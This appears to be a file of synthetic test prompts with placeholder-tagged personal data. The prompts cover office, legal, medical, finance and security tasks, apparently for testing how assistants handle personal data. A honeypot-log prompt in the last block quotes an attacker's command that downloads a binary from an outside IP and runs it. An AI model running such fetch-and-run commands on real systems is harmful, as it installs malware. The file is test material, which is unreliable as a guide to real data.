Signature Algorithm: sha256WithRSAEncryption
@ summarize s m i
@ !hn
Summarise the scope of this pen test engagement: targets 172.20.0.0/16 and 10.50.8.0/22, excluding 10.50.10.0/24; window 2025-07-07 to 2025-07-18, 22:00-06:00 UTC; ref RoE-2025-044.
@ reasoning s m c
Traffic to [[IP:169.254.169.254]] from a container — is that a problem? Reason about what that address is.
@ math g l p calc
@ !hn
If build 1,204 took 14m 32s and build 1,205 took 11m 08s, what's the percentage improvement?
@ math f l i calc
@ !hn
Account 4410-2213-0098 had an opening balance of 18,422.15 and closing 21,907.60 over Q2. What's the quarter-on-quarter growth in percent?
"""

B7 = r"""
@ creative g m c :: Write a short bio for our speaker page
@ translate g l c :: translate it into Korean
Write a short bio for our speaker page from these notes, then translate it into Korean.

Dr. [[P:Min-jun Park]] — CTO at Hanbit Robotics, 15 yrs in autonomous logistics, ex-Samsung, KAIST PhD, likes mountain biking. Contact for booking: [[E:minjun.park@hanbit-robotics.kr]], [[T:+82 2 555 0142]].
@ creative g l c
Write a playful out-of-office message for [[P:Priyanka]] who's off to Iceland to chase the northern lights. Cover: [[P:Tom Baxter]], [[E:tom.baxter@quillandink.co]].
@ creative f l c
Turn this dull payment reminder into something warm and human, same facts: "Dear Mr [[P:Okonkwo]], invoice 1182 for £640 is 10 days overdue. Pay to sort code 20-00-00 or call [[T:0161 555 0199]]."
@ creative l m c
Write a short fictional scene for our compliance training where an employee, [[P:Dana]], receives an email from [[E:ceo.urgent@globex-corp.co]] asking for gift cards.
@ chat g l c
thanks [[P:Aleksander]]!! the slides look great. quick q — are we still doing the dry run at 4? I'll dial in from [[T:+48 22 555 01 23]] since I'm at the client
@ chat m l c
Hi, I had my booster yesterday and my arm is really sore. Is that normal? This is [[P:Fiona]] btw, Dr [[P:Kaur]]'s patient.
@ chat f l r
hey so I think I just typed my whole card number {V11} into the chat on a shopping site by accident. should I panic?
@ chat l l c
Just a heads up — [[P:Jacqueline Moreau]] from the other side's firm called me on [[T:+33 1 44 55 66 77]] asking for an extension. I said we'd come back tomorrow. Hope that's ok!
@ sentiment g l c :: Rate the sentiment of each comment from 1 to 5
@ summarize g l c :: summarise the main complaint
Rate the sentiment of each comment from 1 to 5 and summarise the main complaint.

[[E:kate.b@mailbox.org]]: "Delivery driver was rude and left the parcel in the rain."
[[E:harj.singh@btinternet.com]]: "Product is fine but the app keeps logging me out."
[[E:d.ivanov@yandex.ru]]: "Rude driver again. Third time."
@ sentiment m l r
How is the patient feeling overall based on this message? "Hi it's [[P:Margaret Hughes]] (DOB 12/02/1955). New tablets are making me dizzy and I can't sleep. Honestly I'm fed up."
@ sentiment s l c
Is this user frustrated or fine? "Locked out AGAIN after your 'security upgrade'. My IP is [[IP:86.12.233.40]], whitelist it please. — [[P:B. Thornton]]"
@ sentiment l m c
Assess the tone of opposing counsel's letter: "Our client, Mr [[P:Davies]], has been more than patient. Absent payment by Friday we are instructed to issue proceedings without further notice."
@ math f m r calc :: How much does Li Na owe after interest
@ draft f l r :: write her a payment summary
How much does [[P:Li Na]] owe after interest, and write her a payment summary. Principal $6,000 on card {V12}, 19.99% APR compounded monthly, no payments for 5 months.
@ math f l r calc
Convert these payouts to SGD at 1.35 per USD and total them: [[P:Goh Mei Ling]] (NRIC {N12}) USD 1,200; [[P:Rajesh Pillai]] (FIN {N13}) USD 860.
@ math g l c calc
[[P:Noah]] and [[P:Amara]] split a £186.40 dinner bill, but [[P:Noah]] had the £42 wine on his own. How much does each owe?
@ math m l c calc
Calculate Mrs. [[P:Helga Schmidt]]'s BMI: 1.64 m, 82 kg. And what's her ideal weight range?
@ code g h c code :: Write a script that deduplicates these contacts by email
@ extract g l c :: list which records got merged
Write a script that deduplicates these contacts by email (case-insensitive) and list which records got merged.

[[P:Aiden Murphy]],[[E:Aiden.Murphy@Gmail.com]],[[T:+353 86 555 0132]]
[[P:Aiden Murphy]],[[E:aiden.murphy@gmail.com]],
[[P:Aisling Byrne]],[[E:a.byrne@rte.ie]],[[T:+353 1 555 0101]]
@ code s m c code :: Write a regex that finds IPv6 addresses in logs
@ qa s l c :: does it need to handle the compressed form
Write a regex that finds IPv6 addresses in logs; does it need to handle the compressed form? Examples: [[IP:2001:db8:0:0:0:ff00:42:8329]] and [[IP:2001:db8::ff00:42:8329]] and [[IP:::1]].
@ code f h r code :: Refactor this function so it never logs the full card number
@ reasoning f m r :: explain the PCI risk in the current version
Refactor this function so it never logs the full card number, and explain the PCI risk in the current version.

def charge(card, amount):
    log.info(f"charging {card['pan']} for {amount}")
    # example: charging {M9} for 129.00, holder [[P:Dmitri Volkov]]
    return gateway.charge(card, amount)
@ extract l m r :: Extract the witness details
@ draft l m r :: draft a short witness summons cover letter
Extract the witness details and draft a short witness summons cover letter.

Witness 1: [[P:Eun-ji Kim]], 3F 22 Teheran-ro, Seoul, [[T:+82 10-1234-5678]], [[E:eunji.kim@naver.com]]
Witness 2: [[P:Paulo Santos]], Rua Augusta 101, Lisboa, [[T:+351 912 345 678]]
Hearing: Case ARB/25/118, 14 October 2025
@ classify l l c :: Is this a valid consent under GDPR
@ reasoning l m c :: why or why not
Is this a valid consent under GDPR? Give a yes/no first, then reason why or why not: a pre-ticked box saying "I agree that [[E:marketing@shoply.eu]] may send offers to my email and call me on the number I provided".
@ summarize l h r
Summarise this KYC file note for the compliance officer.

Client: [[P:Viktor Baranov]], UBO of Tarkan Holdings Ltd (BVI). Passport RU 75 4410229. Source of funds: sale of logistics business 2021 (EUR 14m). PEP screening: brother-in-law, [[P:Oleg Sidorov]], regional deputy 2016-2020. Adverse media: 2019 article re customs fraud, no charges. Funds to arrive from {CH1} (Zürich).
@ qa l m r
A former employee ([[P:Hugo Lefèvre]], [[E:hugo.lefevre@orange.fr]]) wants all his data deleted, including payroll with IBAN {FR2}. Do we have to delete the payroll records?
@ translate l h r
Translate this power of attorney clause into English: "Yo, [[P:Carmen Ortiz Delgado]], con domicilio en Calle Mayor 14, Madrid, otorgo poder a [[P:Javier Ruiz]] para operar la cuenta {ES2} en mi nombre."
@ extract l m r
Pull out the parties and their social security numbers from this custody filing excerpt: "Petitioner [[P:Angela Brooks]] (SSN {SS7}) and Respondent [[P:Marcus Brooks]] (SSN {SS8}) are the parents of the minor child."
@ draft l m c
Draft a reply from me ([[P:Samuel Ndlovu]], in-house counsel) to [[E:notices@vendorhub.com]] rejecting their proposed auto-renewal clause.
@ summarize s m c
Summarise this phishing report from a staff member.

"Hi security, got this from [[E:docusign@secure-d0cusign.com]] asking me to sign a 'Q3 bonus agreement'. The link went to a page that asked for my Office 365 password. I didn't enter it. My workstation IP is [[IP:10.44.2.19]]. — [[P:Rui Costa]], Finance"
@ extract s m c
Extract IOCs (IPs, domains, emails) from this threat intel blurb:
"Campaign uses sender [[E:hr-benefits@payroll-update.co]], C2 at [[IP:185.174.100.56]] and [[IP:2a0e:97c0:3e3:7e::1]], domain update-svc[.]net, sinkholed 2025-05-30."
@ classify s l c
Is this SSH key comment leaking anything? "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIM... [[E:deepa.krishnan@corp.infovault.in]]"
@ draft s m c
Write a brief for the SOC explaining why we're blocking [[IP:103.251.167.20]] and [[IP:103.251.167.21]] at the edge.
@ reasoning g m c
My neighbour Mr [[P:Abernathy]] gave me his wifi password and his home IP [[IP:86.171.4.22]] so I can "fix his printer remotely". What's the safest way to do it?
@ extract g l c
Who's on call this week? "Mon-Wed: [[P:Tariq]] ([[T:+44 7700 900 123]]), Thu-Sun: [[P:Holly]] ([[T:+44 7700 900 456]]). Escalation: [[P:Naveen Rao]] [[T:+44 20 7946 0000]] x204."
@ qa g l c
Is it ok to put my personal mobile [[T:+1 917-555-0110]] on a public GitHub profile?
@ classify m l r
Urgent or routine? "Message from [[P:Lorraine Baptiste]], 77: chest tightness since 6am, sweaty, left arm heavy. Daughter's number [[T:(718) 555-0195]]."
@ summarize m m r
Give me a two-line summary of this telehealth consult.

Consult 2025-06-09. Patient: [[P:Oliver Grant]], 42M, [[E:ogrant@me.com]]. Three weeks of dry cough, no fever, non-smoker. Started lisinopril 6 weeks ago. Chest clear. Likely ACE-inhibitor cough; switch to losartan 50mg, review in 4 weeks.
@ extract m l r
What's the patient's NRIC and ward from this bed board line? "Ward 54 Bed 12 — [[P:LIM AH KOW]] {N14} — adm 08/06 — CHF"
@ draft m m r
Write a letter to Mrs [[P:Eunice Abara]] inviting her for a repeat mammogram after an indeterminate result. Her email is [[E:eunice.abara@gmail.com]].
@ qa m m r
Does Mr [[P:Tan]] (NRIC {N15}, eGFR 28) need his metformin dose reduced or stopped?
@ translate m l r
Translate into Tamil for the patient: "Mr [[P:Muthu Krishnan]], your dialysis session on Friday is moved to 2pm. Call [[T:+65 6321 4567]] if you cannot come."
"""

B8 = r"""
@ extract g l i :: Extract the order ids and statuses from this export
@ math g l i calc :: work out what share are delayed
@ !hn
Extract the order ids and statuses from this export and work out what share are delayed.

order_id,created,status,total
SO-2025-118801,2025-06-01,shipped,129.90
SO-2025-118802,2025-06-01,delayed,48.00
SO-2025-118815,2025-06-02,shipped,310.25
SO-2025-118840,2025-06-03,delayed,77.10
SO-2025-118851,2025-06-03,cancelled,15.00
@ classify g l i :: Classify these tickets by priority
@ draft g l i :: write the morning stand-up note
@ !hn
Classify these tickets by priority and write the morning stand-up note.

OPS-5512  Checkout 500s since deploy 2.14.0.311        open 03:10
OPS-5514  Typo on pricing page                         open 08:02
OPS-5515  Nightly batch 20250611 failed step 4 of 7    open 05:45
@ summarize g m i :: Summarise the build log
@ code g m i code :: suggest the fix to the Dockerfile
@ !hn
Summarise the build log and suggest the fix to the Dockerfile.

Step 7/12 : RUN pip install -r requirements.txt
ERROR: Could not find a version that satisfies the requirement torch==2.3.0+cu121
ERROR: No matching distribution found for torch==2.3.0+cu121
The command '/bin/sh -c pip install -r requirements.txt' returned a non-zero code: 1
Build #4471 failed after 6m 12s (agent build-agent-07, image python:3.11.9-slim)
@ reasoning f h i :: Which of these two quotes is cheaper over 3 years
@ draft f m i :: draft the recommendation to procurement
@ !hn
Which of these two quotes is cheaper over 3 years, and draft the recommendation to procurement.

Quote Q-2025-0414 (Vendor A): EUR 48,000 setup + EUR 3,100/month, 5% annual uplift
Quote QTN-88-1207 (Vendor B): no setup, EUR 4,350/month fixed for 36 months
@ extract f m i :: Extract the amounts and due dates
@ classify f l i :: flag which ones are overdue as of 2025-06-15
@ !hn
Extract the amounts and due dates, and flag which ones are overdue as of 2025-06-15.

Bill 2025-0411  Telco        USD 1,204.55  due 2025-06-01
Bill 2025-0419  Rent         USD 9,800.00  due 2025-06-30
Bill 2025-0420  Cloud        USD 14,212.87 due 2025-06-10
Bill 2025-0431  Insurance    USD 2,755.00  due 2025-07-15
@ qa l m i :: What's the notice period under this lease
@ math l l i calc :: how many days do we have left if today is 2025-06-18
@ !hn
What's the notice period under this lease, and how many days do we have left if today is 2025-06-18? Lease ref LSE-4410-B, clause 18.2: "either party may terminate on not less than three months' written notice expiring on 30 September 2025".
@ summarize l m i :: Summarise the claim history
@ reasoning l h i :: say whether the insurer is likely to renew
@ !hn
Summarise the claim history and say whether the insurer is likely to renew.

Policy CMP-2022-771034 (commercial property)
2022-11-03  CLM-22-0881  Escape of water   GBP 18,400  paid
2023-08-19  CLM-23-1402  Theft             GBP 6,150   paid
2024-12-02  CLM-24-2290  Escape of water   GBP 42,700  reserved
@ extract m m i :: Extract the batch numbers that failed
@ draft m m i :: draft the deviation report summary
@ !hn
Extract the batch numbers that failed and draft the deviation report summary.

Batch     Assay %   Dissolution   Result
B250601   99.2      Pass          Release
B250602   94.1      Pass          OOS - investigate
B250603   100.4     Fail (Q=78%)  OOS - investigate
B250604   98.8      Pass          Release
@ classify s m i :: Tag each firewall rule as allow-too-broad or ok
@ code s m i code :: rewrite the bad ones
@ !hn
Tag each firewall rule as allow-too-broad or ok, then rewrite the bad ones.

rule 10  allow tcp 0.0.0.0/0 -> 10.30.0.0/16 port 22
rule 20  allow tcp 10.30.4.0/24 -> 10.30.8.0/24 port 5432
rule 30  allow any 10.0.0.0/8 -> 10.30.0.0/16 any
@ summarize s l i :: Summarise this dependency audit
@ qa s m i :: does lodash 4.17.20 need an urgent upgrade
@ !hn
Summarise this dependency audit, and does lodash 4.17.20 need an urgent upgrade?

lodash 4.17.20  Prototype Pollution  high    fixed in 4.17.21
minimist 1.2.5  Prototype Pollution  critical fixed in 1.2.6
axios 0.21.1    SSRF                 high    fixed in 0.21.2
@ translate g l p :: Translate these product labels into German
@ extract g l p :: keep a list of the part numbers
@ !hn
Translate these product labels into German and keep a list of the part numbers.

"Replacement filter, part no. FLT-2210-03, fits models 2019-2024"
"Mounting bracket, part no. BRK-0088-1A, max load 25 kg"
@ math g m p calc
@ !hn
A batch of 7,200 units has a defect rate of 0.35%; lot 24-118 had 31 defects out of 5,400. Is lot 24-118 worse than average, by how much?
@ qa g l p
@ !hn
what's the difference between a tracking number and an order number?
@ extract g l i
@ !hn
Give me the ticket ids mentioned in this standup: "Closed DEV-8812 and DEV-8815, still blocked on INFRA-221, and PROJ-4410 moved to next sprint."
@ classify g l i
@ !hn
Is "2025.06.11.4" a date, a version or a build tag in this context: "Deploying frontend 2025.06.11.4 to staging"?
@ draft g l i
@ !hn
Write the release announcement for version 4.2.0.17 of our desktop app: faster startup, new PDF export, fixes for build 4.2.0.16 crash on macOS 14.5.
@ creative g l p
@ !hn
Make up a fun backstory for our test robot whose serial is RX-7731-0042 and who was built on 2019-03-14.
@ summarize g l i
@ !hn
Summarise the changes in this git log.

a1f3c9e (tag: v3.8.0) Bump version to 3.8.0
7be2d41 Fix off-by-one in pagination (#4412)
0c9e771 Upgrade grpcio 1.62.1 -> 1.64.0
e55d210 Drop support for Python 3.8
@ chat g l p
@ !hn
is it just me or does every vendor email now start with "Ref: CS-2025-0614-00972"? 😂
@ sentiment g l p
@ !hn
Is this tweet positive or negative? "Finally got tracking 9400 1118 9922 3344 5566 77 to move after 12 days. Thanks for nothing @courier"
@ math f l p calc
@ !hn
What is EUR 1.234.567,89 minus EUR 987.654,32?
@ math f m i calc
@ !hn
Loan ref LN-2025-00412: 250,000 at 6.25% over 25 years, monthly repayments. What's the payment?
@ qa f l i
@ !hn
The vendor's remittance has "Ref 4000 1234 5678 9010" on it. Our reconciliation tool thinks it's a card number — is it?
@ extract f l i
@ !hn
From "Payment to account ref {XI12} EUR 3.400,00 value 2025-06-20" give me just the amount and value date.
@ classify f l i
@ !hn
Is {XI6} an Italian IBAN? It has the right length but our validator says no.
@ draft f m i
@ !hn
Draft a note to the bank asking why transfers to {XI7} keep bouncing with "IBAN check digit error" — remittance refs RMT-22811 and RMT-22840.
@ reasoning f m i
@ !hn
A colleague says 16-digit strings like {XC9} in the ledger are customer cards and we have a PCI breach. They fail Luhn and all start with the same 6 digits as our gift cards. Who's right?
@ summarize f m i
@ !hn
Summarise this month's AP aging: 0-30 days EUR 412,880; 31-60 EUR 98,120; 61-90 EUR 22,400; 90+ EUR 9,870 (mainly INV-2024-8812 disputed).
@ qa l l p
@ !hn
What does "Art. 6(1)(f)" refer to, and what's Recital 47 about?
@ extract l m i
@ !hn
List the docket numbers and filing dates: "Filed 2025-03-04 in No. 1:25-cv-00412; related case No. 1:24-cv-09981 filed 2024-11-18; appeal No. 25-1187 pending."
@ classify l l i
@ !hn
Is "Policy No. 4410-882-19 / Endorsement E-07" a contract reference or a claim reference?
@ draft l m i
@ !hn
Draft a short email to the client that trademark application No. 018881234 was published on 2025-05-22 and the opposition window closes 2025-08-22.
@ translate l m i
@ !hn
Translate into Dutch: "The lease (ref. HUUR-2025-0071) runs from 1 July 2025 to 30 June 2030 at EUR 2.850 per month, indexed annually on 1 July."
@ reasoning m m i
@ !hn
Lot A of vaccine expires 2025-08-31, lot B on 2025-10-15, clinic uses 120 doses a week and has 900 of A and 1,500 of B as of 2025-06-16. Will any doses expire unused? Show the reasoning.
@ extract m l i
@ !hn
Get the UDI and lot from this implant sticker: "(01)00884521123456(17)270430(10)LOT8841A(21)SN00921"
@ qa m l p
@ !hn
Is an HbA1c of 48 mmol/mol (6.5%) diagnostic for diabetes on its own?
@ summarize m l i
@ !hn
Summarise this device recall: "Infusion pump model VP-3000, software versions 3.1.0.12 to 3.1.2.40, may under-infuse at rates below 1 mL/h. Update to 3.1.3.5 by 2025-09-30."
@ code m m i code
@ !hn
Write a Python function that parses GS1 barcodes like (01)05012345678900(17)260131(10)A4471 into GTIN, expiry and lot.
@ extract s l i
@ !hn
Which Kubernetes versions are in this cluster list? "prod-eu v1.29.4-gke.1043002, prod-us v1.28.9-gke.1289000, staging v1.30.1-gke.1156000"
@ classify s l i
@ !hn
Are these IoCs or benign? hashes 44d88612fea8a8f36de82e1278abb02f (EICAR), build id 5.4.0-182-generic, port 4444.
@ code s h i code
@ !hn
Write a Python function that merges overlapping CIDR blocks: ["10.0.0.0/24", "10.0.1.0/24", "10.0.0.128/25", "192.168.8.0/22"].
@ reasoning s m i
@ !hn
The SIEM says firmware 1.0.9.88 on our routers is vulnerable but the vendor advisory lists 1.0.9.8 to 1.0.9.80. Are we affected? Reason about version ordering.
@ qa s l p
@ !hn
What is 2001:db8::/32 used for? I see it in every IPv6 tutorial.
"""

B9 = r"""
@ chat g l c
omg [[P:Natasha]] you're a lifesaver, the client loved the deck 🎉 drinks on me friday? text me at [[T:+1 312 555 0148]]
@ chat g l c
Hi again, it's [[P:Bongani Dlamini]] — we spoke last week about the internship. Just checking you got my CV? Sent from [[E:bongani.dlamini@uct.ac.za]]
@ chat f l r
hiya, my new card came ({D3}) but the app still shows the old one, is that normal or have I messed something up lol
@ chat s l c
morning! quick sanity check — is it weird that my home router ([[IP:192.168.1.1]]) shows a device called "android-7f3a" I don't recognise? probably nothing
@ chat m l c
Hello, I'm [[P:Agnes Müller]]'s daughter. Mum's appointment letter says to call [[T:+49 40 7410 52000]] but nobody picks up. Any idea who else I can try?
@ chat l l c
haha yes I survived the hearing. Judge [[P:Harrow]] was in a mood though. will send notes to [[E:team-lit@carverlaw.com]] tonight
@ chat g l c
sorry wrong number! I was trying to reach [[P:Diego]] at [[T:+52 55 1234 5678]] — is this not him?
@ chat f l r
fyi my social is {SS9} if you need it for the onboarding paperwork, hr said to send it to you?
@ creative g m c
Write a heartfelt farewell speech for our manager [[P:Ruth Abrahams]] who's retiring after 27 years — she started the company softball team and never missed a birthday.
@ creative g l c
Short rhyming invitation for [[P:Kai]]'s 7th birthday party, RSVP to [[P:Jenna]] on [[T:0433 555 210]]
@ creative s l c
Write a short noir-style story about a SOC analyst tracking an attacker who keeps coming back from [[IP:45.155.205.233]].
@ creative m l c
Write an encouraging note from the nursing team to Mr. [[P:Ibrahim Diallo]] on his last day of chemo.
@ creative f l c
Come up with a catchy name and tagline for [[P:Sofia Lindqvist]]'s new bookkeeping business for Swedish freelancers.
@ creative l l c
Write a tongue-in-cheek poem about our GC [[P:Martin Oyelaran]] who reads every single terms-and-conditions page.
@ creative g l c :: Write a toast for my parents' 40th anniversary
@ draft g l c :: a WhatsApp message inviting the family
Write a toast for my parents' 40th anniversary ([[P:Eileen]] and [[P:Patrick Byrne]]) and a WhatsApp message inviting the family. RSVP to me on [[T:+353 87 555 0199]].
@ sentiment g l c
Positive, negative or mixed? "The hotel was gorgeous but the front desk ([[P:Marco]]) lost our booking and charged us twice. — [[E:l.hendricks@ziggo.nl]]"
@ sentiment f l r
Rate the customer's frustration 1-10: "Three weeks and my IBAN {NL3} still hasn't been updated. I've called [[T:+31 20 555 0172]] five times."
@ sentiment m l c
What emotion is the dominant one here? "Dr [[P:Osei]] was so patient with my mum. We finally feel heard after two years of being dismissed."
@ sentiment s l c
Is this employee message hostile? "[[P:Gary]] in IT keeps 'auditing' my laptop ([[IP:10.8.3.77]]) at 11pm. Creepy and I want it to stop."
@ sentiment l l c
Sentiment of this Glassdoor review of our firm: "Partners like [[P:D. Whitcombe]] treat juniors like dirt. Pay is good but not worth it."
@ sentiment g l c :: Score the sentiment of each survey answer
@ extract g l c :: pull out anyone who asked to be contacted
Score the sentiment of each survey answer, and pull out anyone who asked to be contacted.

R1: "Loved the workshop! Would do again."
R2: "Too long, too many slides. Contact me: [[E:pmarsh@dunmore.ac.uk]]"
R3: "Great speaker (Dr. [[P:Lena Ortiz]]). Please call me about group bookings [[T:+44 113 496 0811]]."
@ sentiment f l r :: Analyse the sentiment of this call note
@ draft f m r :: draft the retention offer email
Analyse the sentiment of this call note and draft the retention offer email.

Customer [[P:Vanessa Cole]] ([[E:vcole@icloud.com]]), Platinum card {A4}. Annoyed about the new £575 annual fee, says the lounge access is "a joke now", threatening to move to a competitor. Has been with us since 2011, spends ~£3k/month.
@ translate g l c
Translate into Italian: "Hi [[P:Francesca]], the courier will arrive between 9 and 12. If you're not home, call [[T:+39 347 123 4567]]."
@ translate f l r
Translate into English: "Proszę o przelew na rachunek {PL2}, odbiorca: [[P:Krzysztof Zieliński]], tytułem: faktura 06/2025."
@ translate l m r
Can you put this in plain Dutch for the client? "The Claimant, Ms. [[P:Fenna Visser]], requests that the settlement sum be paid to IBAN {NL3} within 14 days."
@ translate m m r
Translate to Chinese (Simplified): "Patient [[P:Tan Siew Lan]], NRIC {N16}, is allergic to penicillin and sulfa drugs. Emergency contact: [[T:+65 9123 4567]]."
@ translate s l c
Translate this security notice into Portuguese: "We detected a sign-in to [[E:rita.sousa@vodafone.pt]] from a new device at [[IP:85.240.11.9]]. If this wasn't you, reset your password."
@ translate g l c
Übersetze ins Englische: „Hallo Herr [[P:Becker]], ich bin unter [[T:0170 5551234]] erreichbar. Viele Grüße, [[P:Anja]]"
@ translate g l c :: Translate this to Hindi
@ creative g l c :: write a cheerful version for the office noticeboard
Translate this to Hindi, then write a cheerful version for the office noticeboard: "Canteen closed Friday. Questions to [[P:Anil Verma]], ext. 2231 or [[E:anil.verma@tatvasoft.in]]."
@ extract f m r :: Pull out names and SSNs from this 1099 batch
@ classify f l r :: say which look like test records
Pull out names and SSNs from this 1099 batch and say which look like test records.

recipient_name,tin,amount
[[P:Carlos Mendez]],{SS10},4500.00
[[P:Lisa Park]],{SS11},12200.00
TEST RECORD,123-45-6789,0.00
[[P:Jamal Wright]],{SS12},880.00
@ qa f m r
Can an employer ask for my SSN ({SS13}) before making a job offer? I'm in California.
@ draft f m r
Write a short cover note to the IRS enclosing Form 4506-T for [[P:Rosa Delgado]], SSN {SS14}, tax years 2022-2024.
@ summarize f h r
Summarise this credit report extract for the underwriter.

Consumer: [[P:Anthony Russo]]   SSN {SS15}   Score: 688
Tradelines: 7 open, 2 closed. Utilisation 64%. One 60-day late (auto loan, 03/2024). Inquiries last 12m: 5.
Public records: none. Address history: 3 in 4 years.
@ reasoning l h r
An SSN {SS19} appears in a 1990s ad as an example; a client used it on a form. Is that identity fraud or an honest mistake? Reason through it.
@ extract l m r
List each person and their SSN from this affidavit: "I, [[P:Raymond Ellis]], SSN {SS16}, swear that [[P:Dolores Ellis]], SSN {SS17}, is my lawful spouse."
@ code g m c code
Write a Python script that splits "Last, First" names into two columns and normalises phones to E.164. Sample: "[[P:Okafor, Chidi]]", "[[T:0803 555 0142]]"; "[[P:Ng, Wai Ling]]", "[[T:+852 9123 4567]]".
@ code s m c code
Our rate limiter keys on X-Forwarded-For. Show me how to take the right-most trusted address from "X-Forwarded-For: [[IP:203.0.113.195]], [[IP:70.41.3.18]], [[IP:150.172.238.178]]".
@ code f m r code
Write a masking function so "{M10}" becomes "5*** **** **** 1234"-style output (keep first and last 4).
@ extract g l c
Extract each speaker's name from this Zoom transcript: "[[P:Nomvula Khumalo]]: hi all. [[P:Rahul Gupta]]: morning! [[P:Nomvula Khumalo]]: let's start with Q2."
@ summarize g l c
what's this voicemail about? "Hi, it's [[P:Pete]] from Bright Windows, calling about the quote for 22 Elm Road. Call me back on [[T:07700 900 812]], cheers."
@ draft g l c
Reply to Mrs [[P:Harper]] ([[E:joan.harper@btopenworld.com]]) confirming her bin collection complaint has been logged and someone will call her at [[T:01632 960 455]].
@ classify s l c
Is this request legit? "Hi, I'm [[P:Alex]] from your bank's security team, please confirm your login IP ([[IP:77.68.5.20]]) and the code we just texted you."
@ qa s l c retr
Check our security wiki: is [[IP:10.250.0.5]] the jump host or the old backup server?
@ qa g l c web
Can you check online whether [[E:support@mynewbank-alerts.com]] is a known scam sender?
@ summarize l m c retr
Pull up our contract register and summarise what we've signed with [[P:Okonjo Partners]] — contact [[E:f.okonjo@okonjopartners.com]].
@ extract m m r
Extract the allergy list and emergency contact from this intake form.

Full name: [[P:Isabella Rossi]]
DOB: 22/11/1988
Allergies: latex, codeine (vomiting), shellfish
Emergency contact: [[P:Marco Rossi]] (husband) [[T:+61 412 555 876]]
Email: [[E:isabella.rossi@optusnet.com.au]]
@ reasoning m h r
[[P:Declan Walsh]], 23M, collapsed playing football, ECG shows QTc 510 ms. Family history of sudden death (uncle at 31). What's the likely diagnosis and what should be done next? Think it through.
"""

B10 = r"""
@ chat g l p
@ !hn
ok I give up, why is our staging box called "build-4.2.0.17-final-FINAL-v2"? 😅
@ chat f l i
@ !hn
friday fun fact: we paid invoice #00042 from 2011 today. only 14 years late lol
@ chat s l i
@ !hn
anyone else get paged at 3am for ticket SEC-20250612-004? turned out to be a cert expiring on 2025-06-30, not today
@ creative g l p
@ !hn
Write a two-line motto for release train 25.06 — codename "Harbor", build 25.06.0.1412.
@ creative f l p
@ !hn
Write a short, tongue-in-cheek ode to spreadsheet row 16,384 and the 0.01 rounding error that took three accountants a week to find.
@ sentiment s l i
@ !hn
How worried does this changelog comment sound? "Emergency patch 2.8.1.3 — do NOT roll back to 2.8.1.2 under any circumstances."
@ math s l p calc
@ !hn
How many usable host addresses are in a /22, and how many /27 subnets fit in 10.40.0.0/22?
@ math m l p calc
@ !hn
Infusion: 1,000 mL over 8 hours with a drop factor of 20 gtt/mL — drops per minute?
@ math l l i calc
@ !hn
Under the settlement (ref SET-2025-118) EUR 240,000 is paid in 8 equal quarterly instalments starting 2025-09-30. What's each instalment and when is the last one due?
@ translate f l i
@ !hn
Translate into English: "Le numéro de commande 2025-FR-004417 et la facture F-88120 d'un montant de 12 480,00 € sont à régler avant le 31/07/2025."
@ extract s m i :: Extract the hostnames and image tags from this manifest
@ reasoning s m i :: tell me which ones are pinned to a mutable tag
@ !hn
Extract the hostnames and image tags from this manifest and tell me which ones are pinned to a mutable tag.

services:
  api:     image: registry.internal/api:4.2.0.17
  worker:  image: registry.internal/worker:latest
  web:     image: registry.internal/web:2025.06.11-3
  redis:   image: redis:7.2.5-alpine
@ summarize g m i :: Summarise the warranty claims
@ classify g l i :: group them by part number
@ !hn
Summarise the warranty claims and group them by part number.

WC-77120  part 3301-220-A  fault: motor noise     filed 2025-05-02
WC-77131  part 3301-220-A  fault: motor noise     filed 2025-05-09
WC-77140  part 1150-004-C  fault: cracked casing  filed 2025-05-11
WC-77152  part 3301-220-B  fault: no power        filed 2025-05-20
@ qa f l i :: What's the NRIC-looking code on this receipt
@ reasoning f m i :: could it identify me
@ !hn
What's the NRIC-looking code on this receipt, and could it identify me? "Member ref {XN3}, points earned 128, txn 2025-06-14 19:22."
@ classify l l i
@ !hn
Is {XN4} in this case file a valid NRIC or just a case reference? The check letter doesn't match.
@ extract g l i
@ !hn
List every 9-digit number in this and what it probably is: "Routing 026009593, DUNS 150483782, customs entry 900-44-1187, order 112233445."
@ draft s m i
@ !hn
Draft a change request to upgrade the VPN concentrators from 9.16.4.42 to 9.18.4.22 during the window 2025-07-12 22:00 to 2025-07-13 02:00 UTC, ref CHG0031877.
@ draft g m c :: Draft a polite chaser to Yusuf Arslan about the unpaid deposit
@ math f l c calc :: work out how much is left after his partial payment
@ creative g l c :: add a light P.S. about the office cat
Draft a polite chaser to [[P:Yusuf Arslan]] about the unpaid deposit, work out how much is left after his partial payment of €1,250 against €3,400, and add a light P.S. about the office cat. His email: [[E:y.arslan@ankaratekstil.com.tr]]
@ summarize s h c :: Summarise this honeypot log
@ extract s m c :: extract the attacker IPs
@ classify s m c :: classify the attack type
@ draft s l c :: draft the abuse report
Summarise this honeypot log, extract the attacker IPs, classify the attack type, and draft the abuse report.

2025-06-14 01:02:11 [[IP:218.92.0.112]]:41022 -> 22 login root/123456 FAIL
2025-06-14 01:02:13 [[IP:218.92.0.112]]:41030 -> 22 login root/admin FAIL
2025-06-14 01:05:44 [[IP:2400:8901::f03c:93ff:fe2a:1b]]:50122 -> 23 login admin/admin OK
2025-06-14 01:05:50 [[IP:2400:8901::f03c:93ff:fe2a:1b]]:50122 -> wget http://[[IP:45.148.10.95]]/bins/mips; chmod +x mips; ./mips
@ extract m m r :: Extract the key findings from this radiology report
@ translate m m r :: translate them into Spanish for the patient
@ draft m l r :: write a short cover message
Extract the key findings from this radiology report, translate them into Spanish for the patient, and write a short cover message.

MRI LUMBAR SPINE — [[P:Alejandro Gómez]], DOB 1971-09-03, ref. Dr. [[P:H. Levy]]
L4/5: broad-based disc protrusion with moderate left foraminal narrowing, contact with exiting L4 root.
L5/S1: mild facet arthropathy. No cauda equina compression. Conus normal.
@ classify l m r :: Classify each clause as standard or unusual
@ summarize l m r :: summarise the unusual ones
Classify each clause as standard or unusual and summarise the unusual ones.

1. Purchase price: USD 1,150,000 payable to escrow agent account {IE2}.
2. Seller [[P:Gordon Hale]] (SSN {SS18}) represents that the property is free of liens.
3. Buyer may terminate if the seller's dog, "Biscuit", is not rehomed before closing.
4. Closing: 30 days after inspection.
@ reasoning f h r :: Which of these transfers looks like money mule activity
@ draft f m r :: write the SAR narrative
Which of these transfers looks like money mule activity? Then write the SAR narrative.

Account holder: [[P:Kieran Doyle]], 19, student, [[E:kieran.d03@gmail.com]]
